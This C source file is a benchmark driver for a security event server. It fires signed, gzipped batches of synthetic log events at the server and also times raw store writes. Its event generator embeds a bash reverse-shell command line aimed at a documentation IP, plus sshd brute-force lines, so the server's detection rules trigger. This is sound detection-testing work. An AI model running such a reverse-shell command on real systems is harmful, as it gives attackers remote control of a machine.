/* Server ingest benchmark driver (bench/server-ingest builds and runs it).
 *
 *   ingest_load load SECONDS CONNS BATCH MAX_EVENTS STATE_DIR...
 *     Simulated agents (one enrolled state directory each: agent.key,
 *     server.json) send signed gzip batches (docs/PROTOCOL.md "Event
 *     batches") to the real server over HTTPS on loopback: CONNS threads,
 *     one libcurl easy handle (one kept-alive TLS 1.3 connection) each,
 *     agents shared round-robin between them so each agent's sequence stays
 *     in order. Bodies are built and gzipped before the clock starts (the
 *     load generator shares the 2 cores with the server), signed at send
 *     time. 429/503 are honoured (Retry-After) and the batch resent with a
 *     new sequence number, as the agent does. Prints acknowledged events,
 *     events/s, and the acknowledgement latency distribution.
 *
 *   ingest_load floor DB EVENTS BATCH STATE_DIR...
 *     The physical floor: the same event rows, the same batch size, written
 *     through src/store's store_events_ingest (same schema, PRAGMAs WAL +
 *     synchronous=FULL, one durable transaction a batch, dedup by id) into
 *     DB, a copy of the server's store taken after enrollment. Only the
 *     store calls are timed. */
#include <curl/curl.h>
#include <inttypes.h>
#include <pthread.h>
#include <sodium.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#include "agent/transport_internal.h"
#include "store/store.h"

typedef struct sim_agent {
    char dir[AGENT_PATH_MAX];
    agent_server_info info;
    unsigned char sk[AGENT_SECRET_KEY_LEN];
    uint64_t seq;
    unsigned index;
} sim_agent;

typedef struct body {
    hae_buf gz;
    unsigned events;
    sim_agent *agent;
} body;

typedef struct worker {
    pthread_t thread;
    unsigned id;
    sim_agent **agents;
    unsigned n_agents;
    body *bodies;
    size_t n_bodies;
    /* results */
    uint64_t acked, duplicates, batches, busy, failures;
    double *lat_ms;
    size_t n_lat;
    char first_error[512];
} worker;

static unsigned batch_events;
static double deadline;
static const char *curl_pin;
static const char *events_url;
static pthread_barrier_t ready;

static double now_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what, const hae_err *err) {
    fprintf(stderr, "ingest_load: %s: %s\n", what, err ? err->msg : "failed");
    exit(1);
}

/* One realistic event: a mix of process creations, sshd authentication
 * lines, outbound connections and file writes, ~300-400 bytes as the
 * agent's sensors and log tail produce them. One in 500 is an sshd failed
 * password burst line and one in 1000 a reverse-shell command line, so the
 * shipped rules fire and detection does real work beyond matching. */
static void gen_event(hae_buf *out, char id[HAE_ID_LEN], const sim_agent *a, uint64_t n,
                      int64_t t_ns) {
    char when[HAE_TIME_LEN];
    hae_time_format(t_ns, when);
    snprintf(id, HAE_ID_LEN, "%08" PRIx64 "-%04x-7%03x-8%03x-%012" PRIx64,
             (uint64_t)(t_ns / 1000000) & 0xffffffffu, a->index & 0xffffu,
             (unsigned)(n >> 48) & 0xfffu, (unsigned)(n >> 36) & 0xfffu, n & 0xffffffffffffu);
    unsigned pid = 1000 + (unsigned)(n % 60000);
    unsigned kind = (unsigned)(n % 4);
    if (n % 1000 == 7) kind = 9;
    else if (n % 500 == 3) kind = 8;
    hae_buf_printf(out, "{\"id\":\"%s\",\"time\":\"%s\",\"host\":\"host%02u\",", id, when,
                   a->index);
    switch (kind) {
    case 0:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
                       "\"Image\":\"/usr/bin/python3.11\",\"CommandLine\":\"python3 "
                       "/opt/app/worker.py --queue jobs --job %" PRIu64 "\",\"ParentImage\":"
                       "\"/usr/lib/systemd/systemd\",\"User\":\"app\",\"ProcessId\":%u,"
                       "\"ParentProcessId\":1,\"CurrentDirectory\":\"/opt/app\"}\n",
                       n, pid);
        break;
    case 1:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"service\":\"auth\"},\"program\":"
                       "\"sshd\",\"pid\":%u,\"message\":\"Accepted publickey for deploy from "
                       "10.0.%u.%u port %u ssh2: ED25519 SHA256:kq3Xw0m5iM8b2aT1c9u\"}\n",
                       pid, (unsigned)(n % 200), (unsigned)(n % 250), 40000 + (unsigned)(n % 20000));
        break;
    case 2:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"category\":\"network_connection\"},"
                       "\"Image\":\"/usr/sbin/nginx\",\"ProcessId\":%u,\"User\":\"www-data\","
                       "\"Initiated\":true,\"SourceIp\":\"10.0.1.%u\",\"SourcePort\":%u,"
                       "\"DestinationIp\":\"10.0.2.%u\",\"DestinationPort\":5432,"
                       "\"Protocol\":\"tcp\"}\n",
                       pid, a->index, 30000 + (unsigned)(n % 30000), (unsigned)(n % 250));
        break;
    case 3:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"category\":\"file_event\"},"
                       "\"Image\":\"/usr/bin/php-fpm8.2\",\"ProcessId\":%u,\"User\":\"www-data\","
                       "\"TargetFilename\":\"/var/www/html/uploads/2026/11/img_%" PRIu64
                       ".jpg\",\"Size\":%u}\n",
                       pid, n, 20000 + (unsigned)(n % 500000));
        break;
    case 8:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"service\":\"auth\"},\"program\":"
                       "\"sshd\",\"pid\":%u,\"message\":\"Failed password for invalid user "
                       "admin%u from 203.0.113.%u port 22 ssh2\"}\n",
                       pid, (unsigned)(n % 97), (unsigned)(n % 250));
        break;
    default:
        hae_buf_printf(out,
                       "\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
                       "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i >& "
                       "/dev/tcp/203.0.113.7/4444 0>&1\",\"ParentImage\":\"/usr/sbin/php-fpm8.2\","
                       "\"User\":\"www-data\",\"ProcessId\":%u,\"ParentProcessId\":812}\n",
                       pid);
        break;
    }
}

static void load_agent(sim_agent *a, const char *dir, unsigned index) {
    hae_err err = {0};
    snprintf(a->dir, sizeof a->dir, "%s", dir);
    a->index = index;
    if (agent_server_info_load(dir, &a->info, &err) < 0) die(dir, &err);
    if (agent_key_load(dir, a->sk, &err) < 0) die(dir, &err);
    if (agent_seq_load(dir, &a->seq, &err) < 0) die(dir, &err);
}

/* ---- load ------------------------------------------------------------- */

typedef struct reply {
    char text[1024];
    size_t len;
} reply;

static size_t on_data(char *ptr, size_t size, size_t nmemb, void *ctx) {
    reply *r = ctx;
    size_t n = size * nmemb, room = sizeof r->text - 1 - r->len;
    memcpy(r->text + r->len, ptr, n < room ? n : room);
    r->len += n < room ? n : room;
    r->text[r->len] = '\0';
    return n;
}

static uint64_t member(const char *json, const char *name) {
    const char *p = strstr(json, name);
    return p ? strtoull(p + strlen(name), NULL, 10) : 0;
}

/* Sends one body until it is acknowledged (or fails for a reason other
 * than back-pressure). Returns the HTTP status. */
static long send_body(worker *w, CURL *h, body *b) {
    sim_agent *a = b->agent;
    for (;;) {
        hae_err err = {0};
        char when[HAE_TIME_LEN], sig[AGENT_SIGNATURE_B64_LEN], line[256];
        hae_time_format(hae_time_now_ns(), when);
        uint64_t seq = ++a->seq;
        if (batch_sign(a->sk, a->info.agent_id, seq, when, b->gz.data, b->gz.len, sig, &err) < 0)
            die("sign", &err);
        struct curl_slist *hdr = NULL;
        hdr = curl_slist_append(hdr, "Content-Type: application/x-ndjson");
        hdr = curl_slist_append(hdr, "Content-Encoding: gzip");
        hdr = curl_slist_append(hdr, "Expect:");
        snprintf(line, sizeof line, "X-Haetae-Agent: %s", a->info.agent_id);
        hdr = curl_slist_append(hdr, line);
        snprintf(line, sizeof line, "X-Haetae-Batch: %" PRIu64, seq);
        hdr = curl_slist_append(hdr, line);
        snprintf(line, sizeof line, "X-Haetae-Time: %s", when);
        hdr = curl_slist_append(hdr, line);
        snprintf(line, sizeof line, "X-Haetae-Signature: %s", sig);
        hdr = curl_slist_append(hdr, line);
        reply r = {.len = 0};
        curl_easy_setopt(h, CURLOPT_HTTPHEADER, hdr);
        curl_easy_setopt(h, CURLOPT_POSTFIELDS, b->gz.data);
        curl_easy_setopt(h, CURLOPT_POSTFIELDSIZE_LARGE, (curl_off_t)b->gz.len);
        curl_easy_setopt(h, CURLOPT_WRITEDATA, &r);
        double t0 = now_s();
        CURLcode rc = curl_easy_perform(h);
        double dt = now_s() - t0;
        curl_slist_free_all(hdr);
        long status = 0;
        curl_easy_getinfo(h, CURLINFO_RESPONSE_CODE, &status);
        if (rc != CURLE_OK) {
            w->failures++;
            if (!w->first_error[0])
                snprintf(w->first_error, sizeof w->first_error, "curl: %s",
                         curl_easy_strerror(rc));
            return 0;
        }
        if (status == 200) {
            w->batches++;
            w->acked += member(r.text, "\"stored\":");
            w->duplicates += member(r.text, "\"duplicates\":");
            w->lat_ms[w->n_lat++] = dt * 1000.0;
            return status;
        }
        if (status == 429 || status == 503) {
            w->busy++;
            curl_off_t wait_s = 0;
            curl_easy_getinfo(h, CURLINFO_RETRY_AFTER, &wait_s);
            if (now_s() + (double)wait_s > deadline + 30) return status;
            sleep((unsigned)(wait_s > 0 ? wait_s : 1));
            continue;
        }
        w->failures++;
        if (!w->first_error[0])
            snprintf(w->first_error, sizeof w->first_error, "HTTP %ld: %.400s", status, r.text);
        return status;
    }
}

static void *worker_main(void *arg) {
    worker *w = arg;
    hae_buf nd = {0};
    char id[HAE_ID_LEN];
    hae_err err = {0};
    /* Build this connection's bodies before the clock starts. */
    for (size_t i = 0; i < w->n_bodies; i++) {
        body *b = &w->bodies[i];
        b->agent = w->agents[i % w->n_agents];
        hae_buf_reset(&nd);
        int64_t t = hae_time_now_ns();
        for (unsigned e = 0; e < batch_events; e++) {
            uint64_t n = ((uint64_t)w->id << 40) | ((uint64_t)i * batch_events + e);
            gen_event(&nd, id, b->agent, n, t + e);
        }
        if (batch_compress(nd.data, nd.len, &b->gz, &err) < 0) die("gzip", &err);
        b->events = batch_events;
    }
    hae_buf_free(&nd);
    w->lat_ms = calloc(w->n_bodies + 1, sizeof *w->lat_ms);
    CURL *h = curl_easy_init();
    if (!h || !w->lat_ms) die("out of memory", NULL);
    curl_easy_setopt(h, CURLOPT_URL, events_url);
    curl_easy_setopt(h, CURLOPT_SSLVERSION, (long)CURL_SSLVERSION_TLSv1_3);
    curl_easy_setopt(h, CURLOPT_PINNEDPUBLICKEY, curl_pin);
    curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 0L);
    curl_easy_setopt(h, CURLOPT_SSL_VERIFYHOST, 0L);
    curl_easy_setopt(h, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(h, CURLOPT_TIMEOUT, 120L);
    curl_easy_setopt(h, CURLOPT_WRITEFUNCTION, on_data);
    pthread_barrier_wait(&ready);
    for (size_t i = 0; i < w->n_bodies && now_s() < deadline; i++) send_body(w, h, &w->bodies[i]);
    curl_easy_cleanup(h);
    return NULL;
}

static int cmp_double(const void *x, const void *y) {
    double a = *(const double *)x, b = *(const double *)y;
    return a < b ? -1 : a > b;
}

static int run_load(double seconds, unsigned conns, uint64_t max_events, sim_agent *agents,
                    unsigned n_agents) {
    static char url[AGENT_URL_MAX + 32], pin[128];
    hae_err err = {0};
    snprintf(url, sizeof url, "%s/api/v1/events", agents[0].info.url);
    if (agent_pin_to_curl(agents[0].info.pin, pin, sizeof pin, &err) < 0) die("pin", &err);
    events_url = url;
    curl_pin = pin;
    if (conns > n_agents) conns = n_agents;
    worker *ws = calloc(conns, sizeof *ws);
    size_t per_conn = (size_t)(max_events / batch_events / conns) + 1;
    pthread_barrier_init(&ready, NULL, conns + 1);
    for (unsigned t = 0; t < conns; t++) {
        worker *w = &ws[t];
        w->id = t;
        w->agents = calloc(n_agents, sizeof *w->agents);
        for (unsigned i = t; i < n_agents; i += conns) w->agents[w->n_agents++] = &agents[i];
        w->n_bodies = per_conn;
        w->bodies = calloc(per_conn, sizeof *w->bodies);
        if (!w->agents || !w->bodies) die("out of memory", NULL);
        pthread_create(&w->thread, NULL, worker_main, w);
    }
    deadline = 1e300;
    pthread_barrier_wait(&ready);
    struct rusage ru0, ru1;
    getrusage(RUSAGE_SELF, &ru0);
    double t0 = now_s();
    deadline = t0 + seconds;
    printf("start %.3f\n", (double)hae_time_now_ns() / 1e9);
    fflush(stdout);
    uint64_t acked = 0, dup = 0, batches = 0, busy = 0, failures = 0;
    size_t n_lat = 0;
    for (unsigned t = 0; t < conns; t++) {
        pthread_join(ws[t].thread, NULL);
        n_lat += ws[t].n_lat;
    }
    double elapsed = now_s() - t0;
    getrusage(RUSAGE_SELF, &ru1);
    double *lat = calloc(n_lat + 1, sizeof *lat);
    size_t k = 0, built_unused = 0;
    for (unsigned t = 0; t < conns; t++) {
        worker *w = &ws[t];
        acked += w->acked, dup += w->duplicates, batches += w->batches;
        busy += w->busy, failures += w->failures;
        memcpy(lat + k, w->lat_ms, w->n_lat * sizeof *lat);
        k += w->n_lat;
        built_unused += w->n_bodies - w->batches - w->failures;
        if (w->first_error[0]) fprintf(stderr, "connection %u: %s\n", t, w->first_error);
    }
    qsort(lat, n_lat, sizeof *lat, cmp_double);
    double cpu = (double)(ru1.ru_utime.tv_sec - ru0.ru_utime.tv_sec) +
                 (double)(ru1.ru_utime.tv_usec - ru0.ru_utime.tv_usec) / 1e6 +
                 (double)(ru1.ru_stime.tv_sec - ru0.ru_stime.tv_sec) +
                 (double)(ru1.ru_stime.tv_usec - ru0.ru_stime.tv_usec) / 1e6;
    uint64_t gz_bytes = 0;
    for (unsigned t = 0; t < conns; t++)
        for (size_t i = 0; i < ws[t].n_bodies; i++) gz_bytes += ws[t].bodies[i].gz.len;
    printf("elapsed_s %.3f\nacked %" PRIu64 "\nduplicates %" PRIu64 "\nbatches %" PRIu64
           "\nbusy_answers %" PRIu64 "\nfailures %" PRIu64 "\nevents_per_s %.0f\n"
           "p50_ms %.1f\np99_ms %.1f\nmax_ms %.1f\nloadgen_cpu_pct %.1f\n"
           "gz_bytes_per_event %.1f\nprebuilt_unsent_batches %zu\n",
           elapsed, acked, dup, batches, busy, failures, (double)acked / elapsed,
           n_lat ? lat[n_lat / 2] : 0.0, n_lat ? lat[(n_lat * 99) / 100] : 0.0,
           n_lat ? lat[n_lat - 1] : 0.0, 100.0 * cpu / elapsed,
           (double)gz_bytes / ((double)conns * (double)per_conn * batch_events), built_unused);
    return failures ? 1 : 0;
}

/* ---- floor ------------------------------------------------------------ */

static int run_floor(const char *db, uint64_t events, sim_agent *agents, unsigned n_agents) {
    store *st = NULL;
    hae_err err = {0};
    if (store_open(&st, db, &err) < 0) die(db, &err);
    store_event_row *rows = calloc(batch_events, sizeof *rows);
    char (*ids)[HAE_ID_LEN] = calloc(batch_events, HAE_ID_LEN);
    size_t *offs = calloc(batch_events + 1, sizeof *offs);
    char (*hosts)[16] = calloc(batch_events, 16);
    if (!rows || !ids || !offs || !hosts) die("out of memory", NULL);
    hae_buf nd = {0};
    double timed = 0;
    uint64_t stored = 0, dup = 0;
    for (uint64_t done = 0, b = 0; done < events; b++) {
        sim_agent *a = &agents[b % n_agents];
        hae_buf_reset(&nd);
        int64_t t = hae_time_now_ns();
        unsigned n = events - done < batch_events ? (unsigned)(events - done) : batch_events;
        for (unsigned e = 0; e < n; e++) {
            offs[e] = nd.len;
            gen_event(&nd, ids[e], a, (1ull << 62) | (b * batch_events + e), t + e);
        }
        offs[n] = nd.len;
        for (unsigned e = 0; e < n; e++) {
            snprintf(hosts[e], 16, "host%02u", a->index);
            rows[e] = (store_event_row){.id = ids[e], .host = hosts[e], .time_ns = t + e,
                                        .json = nd.data + offs[e],
                                        .json_len = offs[e + 1] - offs[e] - 1};
        }
        store_ingest_result res = {0};
        double t0 = now_s();
        if (store_events_ingest(st, a->info.agent_id, ++a->seq, hae_time_now_ns(), rows, n,
                                &res, &err) < 0)
            die("store_events_ingest", &err);
        timed += now_s() - t0;
        if (res.is_rejected) die("floor batch rejected", NULL);
        stored += res.stored, dup += res.duplicates;
        done += n;
    }
    uint64_t count = 0;
    if (store_event_count(st, &count, &err) < 0) die("count", &err);
    store_close(st);
    printf("floor_events %" PRIu64 "\nfloor_duplicates %" PRIu64 "\nfloor_store_count %" PRIu64
           "\nfloor_s %.3f\nfloor_events_per_s %.0f\n",
           stored, dup, count, timed, (double)stored / timed);
    return 0;
}

int main(int argc, char **argv) {
    bool is_load = argc > 1 && strcmp(argv[1], "load") == 0;
    bool is_floor = argc > 1 && strcmp(argv[1], "floor") == 0;
    int first = is_load ? 6 : 5;
    if ((!is_load && !is_floor) || argc <= first) {
        fprintf(stderr, "usage: ingest_load load SECONDS CONNS BATCH MAX_EVENTS STATE_DIR...\n"
                        "       ingest_load floor DB EVENTS BATCH STATE_DIR...\n");
        return 2;
    }
    if (sodium_init() < 0 || curl_global_init(CURL_GLOBAL_DEFAULT) != CURLE_OK) return 1;
    unsigned n_agents = (unsigned)(argc - first);
    sim_agent *agents = calloc(n_agents, sizeof *agents);
    if (!agents) return 1;
    for (unsigned i = 0; i < n_agents; i++) load_agent(&agents[i], argv[first + (int)i], i);
    if (is_load) {
        batch_events = (unsigned)strtoul(argv[4], NULL, 10);
        return run_load(strtod(argv[2], NULL), (unsigned)strtoul(argv[3], NULL, 10),
                        strtoull(argv[5], NULL, 10), agents, n_agents);
    }
    batch_events = (unsigned)strtoul(argv[4], NULL, 10);
    return run_floor(argv[2], strtoull(argv[3], NULL, 10), agents, n_agents);
}
